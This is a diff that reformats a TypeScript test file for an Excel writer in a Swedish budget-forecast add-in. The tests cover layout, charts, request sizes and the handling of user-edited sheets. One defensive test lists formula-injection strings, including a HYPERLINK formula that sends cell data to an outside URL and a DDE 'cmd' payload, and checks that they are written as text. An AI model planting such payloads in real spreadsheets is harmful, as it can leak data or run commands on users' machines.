@@ -6,7 +6,13 @@ import { tableSheet, type SheetLayout } from "../../../src/report/layout";
 import { REGISTRY_SHEET } from "../../../src/report/meta";
 import { buildForecastHistorySheet, FORECAST_HISTORY_SHEET } from "../../../src/report/forecastHistory";
 import { PROGNOSIS_SHEET, PROGNOSIS_TABLE } from "../../../src/report/prognosisSheet";
-import { NO_INDENT_NOTICE, NO_OUTLINE_NOTICE, NO_VALIDATION_NOTICE, OfficeWriter, type EditedChoice } from "../../../src/workbook/office/writer";
+import {
+  NO_INDENT_NOTICE,
+  NO_OUTLINE_NOTICE,
+  NO_VALIDATION_NOTICE,
+  OfficeWriter,
+  type EditedChoice,
+} from "../../../src/workbook/office/writer";
 import { WriteRefused } from "../../../src/workbook/writeChecks";
 import { stackedBars } from "../../fakes/excel/chartRender";
 import { BRIDGE_COLOURS, bridgeSeries } from "../../../src/report/bridgeChart";
@@ -18,7 +24,12 @@ import { COERCIBLE_TEXT, coercibleText, prognosisReport, template } from "./samp
 
 const NOW = () => "2021-09-10T08:00:00";
 
-function write(state: WorkbookState, layouts: readonly SheetLayout[], onEdited: "replace" | "keep" | "fail" = "fail", writer = new OfficeWriter({ now: NOW })) {
+function write(
+  state: WorkbookState,
+  layouts: readonly SheetLayout[],
+  onEdited: "replace" | "keep" | "fail" = "fail",
+  writer = new OfficeWriter({ now: NOW }),
+) {
   return withExcel(state, () => writer.writeSheets(layouts, { onEdited }));
 }
 
@@ -44,15 +55,29 @@ describe("a prognosis report in the fake Excel", () => {
     ]);
     const ws = PROGNOSIS_SHEET;
     expect(readCell(state, `'${ws}'!A1`)?.value).toBe(layout.title);
-    expect(readValues(state, `'${ws}'!A${top + 1}:C${top + 1}`)).toEqual([["Ansvar", "Benämning", "Utfall fg år t.o.m. period"]]);
+    expect(readValues(state, `'${ws}'!A${top + 1}:C${top + 1}`)).toEqual([
+      ["Ansvar", "Benämning", "Utfall fg år t.o.m. period"],
+    ]);
     // First data row: ansvar code as text (not the number 10000), amounts in kronor, variance as a formula.
     const first = table.rows[0]!;
-    expect(readCell(state, `'${ws}'!A${top + 2}`)).toMatchObject({ value: first.cells[0]!.value, quotePrefix: true, numberFormat: "@" });
-    expect(readCell(state, `'${ws}'!E${top + 2}`)).toMatchObject({ value: first.cells[4]!.value, numberFormat: "[>=0]#,##0,;[<=-500]-#,##0,;#,##0," });
-    expect(readCell(state, `'${ws}'!F${top + 2}`)).toMatchObject({ formula: `D${top + 2}-E${top + 2}`, numberFormat: "[>=0]#,##0,;[<=-500]-#,##0,;#,##0," });
+    expect(readCell(state, `'${ws}'!A${top + 2}`)).toMatchObject({
+      value: first.cells[0]!.value,
+      quotePrefix: true,
+      numberFormat: "@",
+    });
+    expect(readCell(state, `'${ws}'!E${top + 2}`)).toMatchObject({
+      value: first.cells[4]!.value,
+      numberFormat: "[>=0]#,##0,;[<=-500]-#,##0,;#,##0,",
+    });
+    expect(readCell(state, `'${ws}'!F${top + 2}`)).toMatchObject({
+      formula: `D${top + 2}-E${top + 2}`,
+      numberFormat: "[>=0]#,##0,;[<=-500]-#,##0,;#,##0,",
+    });
     // The subtotal of the first verksamhet sums its 20 ansvar.
     const subtotalAt = table.rows.findIndex((r) => r.kind === "subtotal");
-    expect(readCell(state, `'${ws}'!E${top + 2 + subtotalAt}`)?.formula).toBe(`SUM(E${top + 2}:E${top + 1 + subtotalAt})`);
+    expect(readCell(state, `'${ws}'!E${top + 2 + subtotalAt}`)?.formula).toBe(
+      `SUM(E${top + 2}:E${top + 1 + subtotalAt})`,
+    );
     expect(readCell(state, `'${ws}'!E${top + 2 + subtotalAt}`)?.format).toMatchObject({ bold: true, fill: "#DDEBF7" });
     expect(readCell(state, `'${ws}'!A${layout.notes[0]!.row + 1}`)?.value).toBe(layout.notes[0]!.text);
   });
@@ -63,7 +88,9 @@ describe("a prognosis report in the fake Excel", () => {
     expect(state.tables).toHaveLength(1);
     expect(state.tables[0]!.name).toBe(PROGNOSIS_TABLE);
     expect(state.tables[0]!.style).toBe("TableStyleLight9");
-    expect(tableAddress(state, state.tables[0]!)).toBe(`'${PROGNOSIS_SHEET}'!A${top + 1}:M${top + 1 + table.rows.length}`);
+    expect(tableAddress(state, state.tables[0]!)).toBe(
+      `'${PROGNOSIS_SHEET}'!A${top + 1}:M${top + 1 + table.rows.length}`,
+    );
     const s = sheet(state, PROGNOSIS_SHEET);
     expect(s.frozen).toEqual(layout.freeze);
     expect(s.outline.get(top + 1)).toBe(table.rows[0]!.outline);
@@ -75,7 +102,10 @@ describe("a prognosis report in the fake Excel", () => {
   });
 
   it("freezes header rows only, or columns only, when the layout asks for one of them", async () => {
-    for (const freeze of [{ rows: 4, columns: 0 }, { rows: 0, columns: 2 }]) {
+    for (const freeze of [
+      { rows: 4, columns: 0 },
+      { rows: 0, columns: 2 },
+    ]) {
       const state = createWorkbook({ Data: [["indata"]] });
       await write(state, [{ ...layout, freeze }]);
       expect(sheet(state, PROGNOSIS_SHEET).frozen).toEqual(freeze);
@@ -84,7 +114,11 @@ describe("a prognosis report in the fake Excel", () => {
 
   it("writes a hidden sheet hidden", async () => {
     const state = createWorkbook();
-    await write(state, [buildForecastHistorySheet([{ year: 2021, month: 4, costCentre: "441", forecast: 1_500_000, method: "entered", savedAt: "2021-05-10" }])]);
+    await write(state, [
+      buildForecastHistorySheet([
+        { year: 2021, month: 4, costCentre: "441", forecast: 1_500_000, method: "entered", savedAt: "2021-05-10" },
+      ]),
+    ]);
     expect(sheet(state, FORECAST_HISTORY_SHEET).visibility).toBe("Hidden");
     expect(readValues(state, `${FORECAST_HISTORY_SHEET}!A5:D5`)).toEqual([[2021, 4, "441", 1_500_000]]);
   });
@@ -94,16 +128,34 @@ describe("charts", () => {
   const base = prognosisReport(60);
   const withChart = (kind: "clusteredColumn" | "waterfall"): SheetLayout => ({
     ...base,
-    charts: [{ title: "Avvikelse helår per verksamhet", kind, table: base.tables[0]!.name, categoryColumn: "name", valueColumns: ["varianceFullYear"], rowKinds: ["subtotal", "total"], anchor: { row: 5, column: 15 } }],
+    charts: [
+      {
+        title: "Avvikelse helår per verksamhet",
+        kind,
+        table: base.tables[0]!.name,
+        categoryColumn: "name",
+        valueColumns: ["varianceFullYear"],
+        rowKinds: ["subtotal", "total"],
+        anchor: { row: 5, column: 15 },
+      },
+    ],
   });
 
   it("draws the variance per area from a data block that points into the table", async () => {
     const state = createWorkbook();
     await write(state, [withChart("clusteredColumn")]);
     const chart = sheet(state, PROGNOSIS_SHEET).charts[0]!;
-    expect(chart).toMatchObject({ type: "ColumnClustered", title: "Avvikelse helår per verksamhet", seriesBy: "Columns", source: `'${PROGNOSIS_SHEET}'!P6:Q10`, position: { start: "P6", end: "W20" } });
+    expect(chart).toMatchObject({
+      type: "ColumnClustered",
+      title: "Avvikelse helår per verksamhet",
+      seriesBy: "Columns",
+      source: `'${PROGNOSIS_SHEET}'!P6:Q10`,
+      position: { start: "P6", end: "W20" },
+    });
     const subtotals = base.tables[0]!.rows.map((r, i) => ({ r, i })).filter(({ r }) => r.kind !== "data");
-    expect(readCell(state, `'${PROGNOSIS_SHEET}'!Q7`)?.formula).toBe(`I${base.tables[0]!.headerRow + 2 + subtotals[0]!.i}`);
+    expect(readCell(state, `'${PROGNOSIS_SHEET}'!Q7`)?.formula).toBe(
+      `I${base.tables[0]!.headerRow + 2 + subtotals[0]!.i}`,
+    );
   });
 
   // Office.js cannot mark a waterfall point as a total: Excel's Waterfall type would float "Prognos helår" on the
@@ -116,7 +168,12 @@ describe("charts", () => {
       const report = await write(state, [layout]);
       expect(report.notices ?? []).not.toContainEqual(expect.stringMatching(/vattenfall/));
       const chart = sheet(state, SUMMARY_SHEET).charts[0]!;
-      expect(chart).toMatchObject({ type: "ColumnStacked", title: "Från budget till prognos (tkr)", noFillSeries: [0], legendVisible: false });
+      expect(chart).toMatchObject({
+        type: "ColumnStacked",
+        title: "Från budget till prognos (tkr)",
+        noFillSeries: [0],
+        legendVisible: false,
+      });
       const bridge = layout.tables.find((t) => t.name === BRIDGE_TABLE)!.rows;
       const bars = stackedBars(state, chart).map((b) => b.segments);
       const blue = officeColour(BRIDGE_COLOURS.total);
@@ -132,10 +189,26 @@ describe("charts", () => {
         const change = area.forecast - area.annualBudget;
         expect(bridge[i + 1]!.cells[1]!.value).toBe(change);
         const next = level + change;
-        expect(bars[i + 1], area.name).toEqual(change === 0 ? [] : [{ series: change > 0 ? "Ökning" : "Minskning", from: Math.min(level, next), to: Math.max(level, next), fill: change > 0 ? red : green }]);
+        expect(bars[i + 1], area.name).toEqual(
+          change === 0
+            ? []
+            : [
+                {
+                  series: change > 0 ? "Ökning" : "Minskning",
+                  from: Math.min(level, next),
+                  to: Math.max(level, next),
+                  fill: change > 0 ? red : green,
+                },
+              ],
+        );
         level = next;
       });
-      expect(bars.slice(1, -1).flat().map((s) => s.to - s.from)).toEqual([1_450_000, 2_050_000, 2_400_000, 1_800_000]);
+      expect(
+        bars
+          .slice(1, -1)
+          .flat()
+          .map((s) => s.to - s.from),
+      ).toEqual([1_450_000, 2_050_000, 2_400_000, 1_800_000]);
     });
   }
 
@@ -185,14 +258,19 @@ describe("numbers as Excel hands them back", () => {
 describe("round trips and payload", () => {
   it("keeps every request under 5 MB in UTF-8 bytes: Swedish text counts å, ä and ö twice", async () => {
     // 30,000 comments of 120 characters: 3.6 million characters, 7.2 MB as UTF-8.
-    const comment = (i: number) => `Rad ${i}: överskott på grund av ändrade behov, färre placeringar än väntat. `.padEnd(120, "ä");
+    const comment = (i: number) =>
+      `Rad ${i}: överskott på grund av ändrade behov, färre placeringar än väntat. `.padEnd(120, "ä");
     const layout = tableSheet({
       name: "Kommentarer",
       title: "Kommentarer",
       meta: [],
       table: "Budgetkoll_Kommentarer",
       columns: [{ id: "comment", header: "Kommentar", type: "text", width: 60 }],
-      rows: Array.from({ length: 30_000 }, (_, i) => ({ kind: "data" as const, level: 0, cells: [{ value: comment(i) }] })),
+      rows: Array.from({ length: 30_000 }, (_, i) => ({
+        kind: "data" as const,
+        level: 0,
+        cells: [{ value: comment(i) }],
+      })),
       notes: [],
       frozenColumns: 0,
     });
@@ -206,14 +284,21 @@ describe("round trips and payload", () => {
     // The fake refuses a chart or an autofit over uncalculated formulas, and freezing a hidden sheet.
     const state = createWorkbook();
     const layout = buildSummarySheet(herrljungaPrognosis(), HERRLJUNGA_META);
-    await write(state, [layout, buildForecastHistorySheet([{ year: 2021, month: 4, costCentre: "441", forecast: 1_500_000, method: "entered", savedAt: "2021-05-10" }])]);
+    await write(state, [
+      layout,
+      buildForecastHistorySheet([
+        { year: 2021, month: 4, costCentre: "441", forecast: 1_500_000, method: "entered", savedAt: "2021-05-10" },
+      ]),
+    ]);
     const summary = sheet(state, SUMMARY_SHEET);
     expect(summary.charts).toHaveLength(1);
     expect(summary.frozen).toEqual({ rows: layout.freeze?.rows ?? 0, columns: layout.freeze?.columns ?? 0 });
     // The chart's categories are references into the bridge, calculated by now.
     const [header, ...rows] = readValues(state, summary.charts[0]!.source);
     expect(header![0]).toBe("Från budget till prognos");
-    expect(rows.map((r) => r[0])).toEqual(layout.tables.find((t) => t.name === BRIDGE_TABLE)!.rows.map((r) => r.cells[0]!.value));
+    expect(rows.map((r) => r[0])).toEqual(
+      layout.tables.find((t) => t.name === BRIDGE_TABLE)!.rows.map((r) => r.cells[0]!.value),
+    );
     expect(sheet(state, FORECAST_HISTORY_SHEET).frozen).toEqual({ rows: 0, columns: 0 });
   });
 
@@ -226,7 +311,9 @@ describe("round trips and payload", () => {
       state.syncs = [];
       await write(state, [layout]);
       const again = syncSummary(state);
-      console.log(`${rows} rows: first write ${first.syncs} syncs, largest request ${first.maxRequestBytes} B, total ${first.totalRequestBytes} B; rewrite ${again.syncs} syncs, largest response ${again.maxResponseBytes} B`);
+      console.log(
+        `${rows} rows: first write ${first.syncs} syncs, largest request ${first.maxRequestBytes} B, total ${first.totalRequestBytes} B; rewrite ${again.syncs} syncs, largest response ${again.maxResponseBytes} B`,
+      );
       expect(first.syncs).toBeLessThanOrEqual(5);
       expect(again.syncs).toBeLessThanOrEqual(5);
       expect(first.maxRequestBytes).toBeLessThan(5 * 1024 * 1024);
@@ -246,7 +333,9 @@ describe("round trips and payload", () => {
       state.syncs = [];
       const asked: string[][] = [];
       const ask = async (sheets: readonly string[]): Promise<EditedChoice> => (asked.push([...sheets]), "cancel");
-      const report = await withExcel(state, () => new OfficeWriter({ now: NOW }).writeSheets([layout], { onEdited: ask, merged: [] }));
+      const report = await withExcel(state, () =>
+        new OfficeWriter({ now: NOW }).writeSheets([layout], { onEdited: ask, merged: [] }),
+      );
       // Look at the workbook, read our old sheet back (one block, two for 10,000 rows), build, swap: the check for
       // edits is that same read, and nothing was edited, so nobody was asked.
       console.log(`${rows} rows, check + write: ${state.syncs.length} syncs`);
@@ -304,7 +393,9 @@ describe("the workbook is safe", () => {
     const state = createWorkbook({ [PROGNOSIS_SHEET]: [["mitt eget"]] });
     const error = await write(state, [layout]).catch((e: unknown) => e);
     expect(error).toBeInstanceOf(WriteRefused);
-    expect((error as WriteRefused).problems[0]).toContain(`Bladet "${PROGNOSIS_SHEET}" finns redan och är inte skapat av Budgetkoll`);
+    expect((error as WriteRefused).problems[0]).toContain(
+      `Bladet "${PROGNOSIS_SHEET}" finns redan och är inte skapat av Budgetkoll`,
+    );
     expect(state.sheets.map((s) => s.name)).toEqual([PROGNOSIS_SHEET]);
     expect(readCell(state, `'${PROGNOSIS_SHEET}'!A1`)?.value).toBe("mitt eget");
     expect(state.syncs).toHaveLength(1);
@@ -314,7 +405,8 @@ describe("the workbook is safe", () => {
     const state = createWorkbook({ Blad1: [] });
     await write(state, [layout]);
     await expect(write(state, [layout])).resolves.toEqual({ written: [PROGNOSIS_SHEET], keptEdited: [] });
-    const edited = () => withExcel(state, () => new OfficeWriter().editedSheets([PROGNOSIS_SHEET, "Blad1", "Finns inte"]));
+    const edited = () =>
+      withExcel(state, () => new OfficeWriter().editedSheets([PROGNOSIS_SHEET, "Blad1", "Finns inte"]));
     await expect(edited()).resolves.toEqual([]);
     setCell(sheet(state, PROGNOSIS_SHEET), 199, 0, "min anteckning");
     // Asked before writing: only our own edited sheet (Blad1 is the user's, and not ours to judge).
@@ -335,7 +427,10 @@ describe("the workbook is safe", () => {
     const asked: string[][] = [];
     const writeAsking = (answer: EditedChoice, meanwhile = () => {}) =>
       withExcel(state, () =>
-        new OfficeWriter({ now: NOW }).writeSheets([layout, template()], { onEdited: async (sheets) => (asked.push([...sheets]), meanwhile(), answer), merged: [] }),
+        new OfficeWriter({ now: NOW }).writeSheets([layout, template()], {
+          onEdited: async (sheets) => (asked.push([...sheets]), meanwhile(), answer),
+          merged: [],
+        }),
       );
 
     state.syncs = [];
@@ -346,7 +441,10 @@ describe("the workbook is safe", () => {
 
     // The user edits the template while the question is open: it is asked about in its own question, and "keep" keeps it.
     const editTemplate = () => setCell(sheet(state, "Mall prognos"), 20, 0, "ändrad under frågan");
-    await expect(writeAsking("keep", editTemplate)).resolves.toEqual({ written: [], keptEdited: [PROGNOSIS_SHEET, "Mall prognos"] });
+    await expect(writeAsking("keep", editTemplate)).resolves.toEqual({
+      written: [],
+      keptEdited: [PROGNOSIS_SHEET, "Mall prognos"],
+    });
     expect(readCell(state, "'Mall prognos'!A21")?.value).toBe("ändrad under frågan");
     expect(asked.slice(1)).toEqual([[PROGNOSIS_SHEET], ["Mall prognos"]]);
 
@@ -356,9 +454,18 @@ describe("the workbook is safe", () => {
     expect(readCell(state, `'${PROGNOSIS_SHEET}'!A200`)?.value).toBe("min anteckning");
     state.failOn = undefined;
 
-    await expect(writeAsking("replace")).resolves.toEqual({ written: [PROGNOSIS_SHEET, "Mall prognos"], keptEdited: [] });
+    await expect(writeAsking("replace")).resolves.toEqual({
+      written: [PROGNOSIS_SHEET, "Mall prognos"],
+      keptEdited: [],
+    });
     expect(readCell(state, `'${PROGNOSIS_SHEET}'!A200`)).toBeUndefined();
-    expect(asked).toEqual([[PROGNOSIS_SHEET], [PROGNOSIS_SHEET], ["Mall prognos"], [PROGNOSIS_SHEET, "Mall prognos"], [PROGNOSIS_SHEET, "Mall prognos"]]);
+    expect(asked).toEqual([
+      [PROGNOSIS_SHEET],
+      [PROGNOSIS_SHEET],
+      ["Mall prognos"],
+      [PROGNOSIS_SHEET, "Mall prognos"],
+      [PROGNOSIS_SHEET, "Mall prognos"],
+    ]);
   });
 
   it("never replaces a sheet edited while its question was open: it asks again about just that sheet", async () => {
@@ -374,7 +481,9 @@ describe("the workbook is safe", () => {
       return answers[asked.length - 1]!;
     };
     state.syncs = [];
-    const report = await withExcel(state, () => new OfficeWriter({ now: NOW }).writeSheets([layout, template()], { onEdited: ask, merged: [] }));
+    const report = await withExcel(state, () =>
+      new OfficeWriter({ now: NOW }).writeSheets([layout, template()], { onEdited: ask, merged: [] }),
+    );
     expect(asked).toEqual([[PROGNOSIS_SHEET], ["Mall prognos"]]);
     expect(report).toEqual({ written: [PROGNOSIS_SHEET], keptEdited: ["Mall prognos"] });
     expect(readCell(state, `'${PROGNOSIS_SHEET}'!A200`)).toBeUndefined();
@@ -387,7 +496,9 @@ describe("the workbook is safe", () => {
     setCell(sheet(state, PROGNOSIS_SHEET), 199, 0, "ny anteckning");
     answers.splice(0, 2, "replace", "cancel");
     asked.length = 0;
-    const cancelled = await withExcel(state, () => new OfficeWriter({ now: NOW }).writeSheets([layout, template()], { onEdited: ask, merged: [] }));
+    const cancelled = await withExcel(state, () =>
+      new OfficeWriter({ now: NOW }).writeSheets([layout, template()], { onEdited: ask, merged: [] }),
+    );
     expect(asked).toEqual([[PROGNOSIS_SHEET], ["Mall prognos"]]);
     expect(cancelled).toEqual({ written: [], keptEdited: [], cancelled: true });
     expect(readCell(state, `'${PROGNOSIS_SHEET}'!A200`)?.value).toBe("ny anteckning");
@@ -401,7 +512,11 @@ describe("the workbook is safe", () => {
     const asked: string[][] = [];
     // "Ersätt" for the report, while that dialog is open the template is edited; "Ersätt" for the template, while
     // that dialog is open the report is edited again; asked about the report again, "Behåll" keeps that edit.
-    const meanwhile = [() => setCell(sheet(state, "Mall prognos"), 20, 0, "ändrad under frågan"), () => setCell(sheet(state, PROGNOSIS_SHEET), 200, 0, "ny anteckning"), () => {}];
+    const meanwhile = [
+      () => setCell(sheet(state, "Mall prognos"), 20, 0, "ändrad under frågan"),
+      () => setCell(sheet(state, PROGNOSIS_SHEET), 200, 0, "ny anteckning"),
+      () => {},
+    ];
     const answers: EditedChoice[] = ["replace", "replace", "keep"];
     const ask = async (sheets: readonly string[]): Promise<EditedChoice> => {
       asked.push([...sheets]);
@@ -409,7 +524,9 @@ describe("the workbook is safe", () => {
       return answers[asked.length - 1]!;
     };
     state.syncs = [];
-    const report = await withExcel(state, () => new OfficeWriter({ now: NOW }).writeSheets([layout, template()], { onEdited: ask, merged: [] }));
+    const report = await withExcel(state, () =>
+      new OfficeWriter({ now: NOW }).writeSheets([layout, template()], { onEdited: ask, merged: [] }),
+    );
     expect(asked).toEqual([[PROGNOSIS_SHEET], ["Mall prognos"], [PROGNOSIS_SHEET]]);
     expect(report).toEqual({ written: ["Mall prognos"], keptEdited: [PROGNOSIS_SHEET] });
     expect(readValues(state, `'${PROGNOSIS_SHEET}'!A200:A201`)).toEqual([["min anteckning"], ["ny anteckning"]]);
@@ -448,7 +565,15 @@ describe("the workbook is safe", () => {
 
   it("writes the exceljs writer's formula attacks, a carriage return among them, as the text they are", async () => {
     // The same set as the exceljs writer's test (test/workbook/exceljs/writer.test.ts).
-    const attacks = ['=HYPERLINK("http://example.com/?q="&A1,"Klicka")', "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"];
+    const attacks = [
+      '=HYPERLINK("http://example.com/?q="&A1,"Klicka")',
+      "+1",
+      "-1",
+      "@SUM(A1)",
+      "\t=1+1",
+      "\r=1+1",
+      "=cmd|' /C calc'!A0",
+    ];
     const layout = tableSheet({
       name: "Angrepp",
       title: "Kommentarer",
@@ -473,7 +598,9 @@ describe("the workbook is safe", () => {
     const state = createWorkbook({ Blad1: [] });
     await write(state, [coercibleText()]);
     const at = (a: string) => readCell(state, `Text!${a}`);
-    expect(COERCIBLE_TEXT.map((_, i) => at(`A${5 + i}`))).toEqual(COERCIBLE_TEXT.map((t) => expect.objectContaining({ value: t, quotePrefix: true })));
+    expect(COERCIBLE_TEXT.map((_, i) => at(`A${5 + i}`))).toEqual(
+      COERCIBLE_TEXT.map((t) => expect.objectContaining({ value: t, quotePrefix: true })),
+    );
     expect(at("A1")).toMatchObject({ value: "TRUE", quotePrefix: true });
     expect(at("A2")).toMatchObject({ value: "maj 21", quotePrefix: true });
     expect(at("A4")).toMatchObject({ value: "00123", quotePrefix: true });
@@ -499,13 +626,32 @@ describe("the workbook is safe", () => {
     expect(s.cells.get(cellKey(5, 2))?.format).toMatchObject({ locked: false, fill: "#FFF2CC" });
     expect(s.cells.get(cellKey(5, 1))?.format?.locked).toBeUndefined();
     // The blank row is editable in every column but the one whose cell says no.
-    expect([0, 1, 2, 3].map((c) => s.cells.get(cellKey(9, c))?.format?.locked)).toEqual([false, false, undefined, false]);
-    expect(readCell(state, "'Mall prognos'!A3")).toMatchObject({ value: "Skriv prognosen i tkr i den gula kolumnen.", format: { bold: true, italic: true } });
-    expect(s.validations.map((v) => [v.rect, v.rule])).toEqual([
-      [{ row: 5, column: 2, rowCount: 5, columnCount: 1 }, { wholeNumber: { formula1: -1e6, formula2: 1e6, operator: "Between" } }],
-      [{ row: 5, column: 3, rowCount: 5, columnCount: 1 }, { list: { inCellDropDown: true, source: "Ej påbörjad,Påbörjad" } }],
+    expect([0, 1, 2, 3].map((c) => s.cells.get(cellKey(9, c))?.format?.locked)).toEqual([
+      false,
+      false,
+      undefined,
+      false,
     ]);
-    expect(s.validations[0]!.errorAlert).toEqual({ showAlert: true, style: "Stop", title: "Fel värde", message: "Skriv ett helt antal tkr." });
+    expect(readCell(state, "'Mall prognos'!A3")).toMatchObject({
+      value: "Skriv prognosen i tkr i den gula kolumnen.",
+      format: { bold: true, italic: true },
+    });
+    expect(s.validations.map((v) => [v.rect, v.rule])).toEqual([
+      [
+        { row: 5, column: 2, rowCount: 5, columnCount: 1 },
+        { wholeNumber: { formula1: -1e6, formula2: 1e6, operator: "Between" } },
+      ],
+      [
+        { row: 5, column: 3, rowCount: 5, columnCount: 1 },
+        { list: { inCellDropDown: true, source: "Ej påbörjad,Påbörjad" } },
+      ],
+    ]);
+    expect(s.validations[0]!.errorAlert).toEqual({
+      showAlert: true,
+      style: "Stop",
+      title: "Fel värde",
+      message: "Skriv ett helt antal tkr.",
+    });
     // A protected template of ours is replaced as well: it is built unprotected and protected once in place.
     await expect(write(state, [template()])).resolves.toEqual({ written: ["Mall prognos"], keptEdited: [] });
     expect(sheet(state, "Mall prognos").protection).toBeDefined();
@@ -525,8 +671,14 @@ describe("the workbook is safe", () => {
     // grouping (ExcelApi 1.10) and the indent (1.9) this Excel lacks as well.
     const injected = createWorkbook({ Blad1: [] });
     const noValidation = new OfficeWriter({ now: NOW, supports: (v) => v !== "1.8" && Number(v.split(".")[1]) < 8 });
-    await expect(write(injected, [template()], "fail", noValidation)).resolves.toMatchObject({ notices: [NO_VALIDATION_NOTICE] });
+    await expect(write(injected, [template()], "fail", noValidation)).resolves.toMatchObject({
+      notices: [NO_VALIDATION_NOTICE],
+    });
     expect(sheet(injected, "Mall prognos").validations).toEqual([]);
-    await expect(write(injected, [prognosisReport(10)], "fail", noValidation)).resolves.toEqual({ written: [PROGNOSIS_SHEET], keptEdited: [], notices: [NO_OUTLINE_NOTICE, NO_INDENT_NOTICE] });
+    await expect(write(injected, [prognosisReport(10)], "fail", noValidation)).resolves.toEqual({
+      written: [PROGNOSIS_SHEET],
+      keptEdited: [],
+      notices: [NO_OUTLINE_NOTICE, NO_INDENT_NOTICE],
+    });
   });
 });
